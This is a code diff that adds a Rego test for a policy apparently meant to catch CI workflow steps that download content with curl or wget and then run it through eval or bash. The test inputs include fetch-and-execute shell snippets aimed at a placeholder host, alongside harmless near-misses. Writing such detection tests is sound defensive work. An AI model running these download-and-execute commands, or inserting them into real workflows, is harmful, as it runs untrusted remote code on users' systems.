@@ -43,3 +43,14 @@ test_allow if {
 }
 
 test_allow_unknown if count(policy.deny) == 0 with input as _run("${{ inputs.command }}")
+
+test_two_steps if {
+	every run, findings in {
+		"X=$(curl https://a.example)\neval $X": 1,
+		"SCRIPT=`wget -qO- https://a.example`\nbash -c \"$SCRIPT\"": 1,
+		"X=$(curl https://a.example)\necho $X": 0,
+		"X=$(curl https://a.example)\neval $XY": 0,
+	} {
+		count(policy.deny) == findings with input as testing.review([testing.steps([{"run": run}])])
+	}
+}
